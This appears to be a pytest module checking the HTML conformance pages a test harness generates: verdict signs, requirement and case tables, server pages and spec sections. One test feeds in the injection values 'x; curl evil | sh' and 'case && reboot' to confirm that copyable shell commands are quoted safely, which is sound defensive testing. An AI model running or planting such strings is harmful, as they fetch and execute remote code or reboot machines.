"""The site's pages about conformance and specs: verdicts, evidence, requirements, cases."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from harness import plugins
from harness.model import Evidence, Run, Verdict
from harness.requirements import text as requirements
from harness.requirements.coverage import cases_of
from harness.site.data import site_of
from harness.site.page import slug
from harness.site.pages.specs import sections
from harness.site.requirement_results import (
    GRAVEST_FIRST,
    MEANINGS,
    SIGNS,
    area,
    case_anchor,
    requirement_anchor,
    results_of,
    verdict_on,
)
from harness.site.write import write_site
from tests.checked_run import CASE, FRAME, ORDER, SCRIPT, SPEC, START, checked_run, result
from tests.site_pages import ALERT, PageParser, ParsedPage, declared, parse, run_with

KNOWN = requirements.of(SPEC)


@pytest.fixture(scope="module")
def run() -> Run:
    return checked_run()


@pytest.fixture(scope="module")
def folder(run: Run, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("site")
    write_site(run, folder)
    return folder


class CellParser(PageParser):
    """Notes the text of each link, and of each cell of a table, row by row."""

    def __init__(self) -> None:
        super().__init__()
        self.links: dict[str, str] = {}
        self.rows: list[list[str]] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        super().handle_starttag(tag, attributes)
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self.rows[-1].append("")
        elif tag == "a":
            href = dict(attributes)["href"] or ""
            self.links.pop(href, None)  # the text below goes to the last one
            self.links[href] = ""

    def handle_data(self, data: str) -> None:
        super().handle_data(data)
        if "a" in self._open and self.links:
            self.links[next(reversed(self.links))] += data
        if {"td", "th"} & set(self._open):
            self.rows[-1][-1] += data


def cells(file: Path) -> CellParser:
    parser = CellParser()
    parser.feed(file.read_text("utf-8"))
    return parser


def test_every_verdict_has_a_sign_a_meaning_and_a_weight() -> None:
    assert set(SIGNS) == set(MEANINGS) == set(GRAVEST_FIRST) == set(Verdict)
    assert len(set(SIGNS.values())) == len(SIGNS)


def test_a_case_that_failed_broke_the_last_of_its_requirements() -> None:
    failed = result("bad", "case", Verdict.FAIL, FRAME, ORDER)
    assert verdict_on(failed, ORDER) is Verdict.FAIL
    assert verdict_on(failed, FRAME) is Verdict.UNKNOWN
    assert verdict_on(result("good", "case", Verdict.PASS, FRAME, ORDER), FRAME) is Verdict.PASS


def test_the_gravest_case_decides_about_a_requirement(run: Run) -> None:
    bad, good = (site_of(run).by_key["broadcast", name] for name in ("bad", "good"))
    verdicts = {each.id: each.verdict for each in results_of(bad, [ORDER, FRAME, START, "BC-END-1"], KNOWN)}
    assert verdicts == {ORDER: Verdict.FAIL, FRAME: Verdict.UNKNOWN, START: Verdict.WARN, "BC-END-1": None}
    assert [each.verdict for each in results_of(good, [ORDER, START], KNOWN)] == [Verdict.PASS, Verdict.UNSUPPORTED]


def test_ids_have_areas_and_anchors() -> None:
    assert area("BC-ORDER-2") == "ORDER"
    assert area("strange") == "strange"
    assert requirement_anchor("BC-ORDER-2") == "BC-ORDER-2"
    assert re.fullmatch(r"requirement-[a-z0-9-]+", requirement_anchor(ALERT))


def test_a_cell_of_a_requirement_leads_to_the_evidence(folder: Path) -> None:
    page = cells(folder / "conformance/broadcast/requirements.html")
    assert page.links["servers/bad.html#BC-ORDER-2"] == "✗"
    assert page.links["servers/bad.html#BC-FRAME-2"] == "?"
    assert page.links["servers/bad.html#BC-START-1"] == "!"
    assert page.links["servers/good.html#BC-ORDER-2"] == "✓"
    assert page.links["servers/good.html#BC-START-1"] == "–"
    assert [[row[0], *row[1:3]] for row in page.rows if row[:1] in (["good"], ["bad"])] == [
        ["good", "1/1", "–"],
        ["bad", "0/2", "!"],
    ]


def test_a_cell_of_a_case_leads_to_what_was_seen(folder: Path) -> None:
    page = cells(folder / "conformance/broadcast/cases.html")
    assert page.links[f"servers/bad.html#{case_anchor(CASE.id)}"] == "✗"
    assert page.links[f"servers/good.html#{case_anchor('other[::1]')}"] == "–"
    assert page.links[f"../../specs/broadcast/cases.html#{case_anchor(CASE.id)}"] == CASE.id.replace("_", " ")


def test_the_page_of_a_server_has_everything_about_a_failure(folder: Path) -> None:
    file = folder / "conformance/broadcast/servers/bad.html"
    page, text = parse(file), " ".join(parse(file).text.split())
    for part in (KNOWN[ORDER].text, f"seen: {ALERT}", "one order", "c0 ← 1.0", "client 0 | client 1", "--seed 7"):
        assert part in text
    assert "fail: 0 of 2 cases passed" in text
    assert "slow client drops" in text
    assert text.index("What does not hold") < text.index(KNOWN[ORDER].text) < text.index("What else was tried")
    assert {ORDER, FRAME, START, case_anchor(CASE.id), case_anchor("other[::1]")} <= set(page.ids)
    (download,) = [each for each in page.all("a") if "download" in each]
    script = (file.parent / download["href"]).resolve()
    assert script == folder / "scripts" / f"{slug('s.py')}.py"
    assert script.read_text() == SCRIPT


def test_a_message_with_a_byte_that_is_no_text_is_shown_as_an_escape(run: Run, tmp_path: Path) -> None:
    cases = [
        msgspec.structs.replace(case, message="it sent \udcff", facts={"slow client": "\udcff"}) for case in run.cases
    ]
    write_site(Run(run.info, cases, run.trials, run.blocks), tmp_path)
    assert "it sent \\udcff" in parse(tmp_path / "conformance/broadcast/servers/bad.html").text


def test_commands_to_copy_are_quoted_for_a_shell(tmp_path: Path) -> None:
    """A manifest may have any name that can be printed, and a run from elsewhere cases of any name."""
    name = "x; curl evil | sh"
    evidence = Evidence(seed=7)
    cases = [result(name, "case && reboot", Verdict.FAIL, ORDER, evidence=evidence)]
    other, server = declared("go", "asyncio")
    run = run_with(other, msgspec.structs.replace(server, name=name), cases=cases)
    write_site(run, tmp_path)
    words = " ".join(parse(tmp_path / f"conformance/broadcast/servers/{slug(name)}.html").text.split())
    assert f"harness check '{name}' --spec broadcast repeats it" in words
    assert f"harness check '{name}' --spec broadcast -k 'case && reboot' --seed 7" in words
    assert f"harness history '{name}' has" in parse(tmp_path / f"servers/broadcast/{slug(name)}.html").text


def test_the_page_of_a_server_leads_to_its_conformance(folder: Path) -> None:
    page = cells(folder / "servers/broadcast/bad.html")
    assert page.links["../../conformance/broadcast/servers/bad.html"] == "fail, 0 of 2 cases passed, 1 failed"
    assert not [link for link in cells(folder / "servers/broadcast/absent.html").links if "conformance/" in link]
    assert "not checked in this run" in parse(folder / "servers/broadcast/absent.html").text
    assert "0/0" not in parse(folder / "choose.html").text


def test_the_overview_names_what_does_not_hold_and_who_was_not_checked(folder: Path) -> None:
    page = cells(folder / "conformance.html")
    assert "✗ fail bad, BC-ORDER-2" in " ".join(page.links["conformance/broadcast/servers/bad.html#BC-ORDER-2"].split())
    assert page.links["servers/broadcast/absent.html"] == "absent"
    assert not (folder / "conformance/broadcast/servers/absent.html").exists()


def test_the_text_of_a_spec_is_complete_in_its_sections() -> None:
    for spec in plugins.specs().values():
        text = spec.text.read_text("utf-8")
        found = sections(text)
        assert "".join(section.text for section in found) == text.rstrip("\n") + "\n"
        assert [section.id for section in found if section.id] == list(requirements.of(spec))
    assert [(each.id, each.text) for each in sections("# x\n### A-B-1 (MUST, original)\nthe text\n## y\nz")] == [
        ("", "# x\n"),
        ("A-B-1", "### A-B-1 (MUST, original)\nthe text\n"),
        ("", "## y\nz\n"),
    ]


def test_each_requirement_of_a_spec_names_its_cases_and_who_misses_it(folder: Path) -> None:
    page = cells(folder / "specs/broadcast.html")
    assert set(KNOWN) <= set(page.page.ids)
    assert page.links[f"broadcast/cases.html#{case_anchor(CASE.id)}"] == CASE.id.replace("_", " ")
    assert page.links["../conformance/broadcast/servers/bad.html#BC-ORDER-2"] == "✗ bad"
    assert "Missed by none of the 1 server on which it was tried." not in page.page.text
    assert page.page.text.count("Not tried in this run.") == len(KNOWN) - 3


def test_each_case_of_a_spec_has_its_docstring_and_its_source(folder: Path) -> None:
    page = parse(folder / "specs/broadcast/cases.html")
    text = " ".join(page.text.split())
    for case in cases_of(SPEC):
        assert case_anchor(case.id) in page.ids
        assert " ".join(case.text.split()) in text
        assert f"async def test_{case.id}(" in page.text


@pytest.fixture
def smoke(run: Run, tmp_path: Path) -> Iterator[ParsedPage]:
    """The overview of a run of smoke cases, of a spec that is not installed."""
    cases = [msgspec.structs.replace(case, spec="unknown") for case in run.cases]
    servers = tuple(msgspec.structs.replace(server, spec="unknown") for server in run.info.implementations)
    info = msgspec.structs.replace(run.info, implementations=servers, smoke=True)
    write_site(Run(info, cases, run.trials, []), tmp_path)
    yield parse(tmp_path / "conformance.html")


def test_a_spec_that_is_not_installed_has_its_tables_all_the_same(smoke: ParsedPage, tmp_path: Path) -> None:
    assert "smoke cases only" in smoke.text
    page = cells(tmp_path / "conformance/unknown/requirements.html")
    assert page.links["servers/bad.html#BC-ORDER-2"] == "✗"
    assert "one order" in parse(tmp_path / "conformance/unknown/servers/bad.html").text
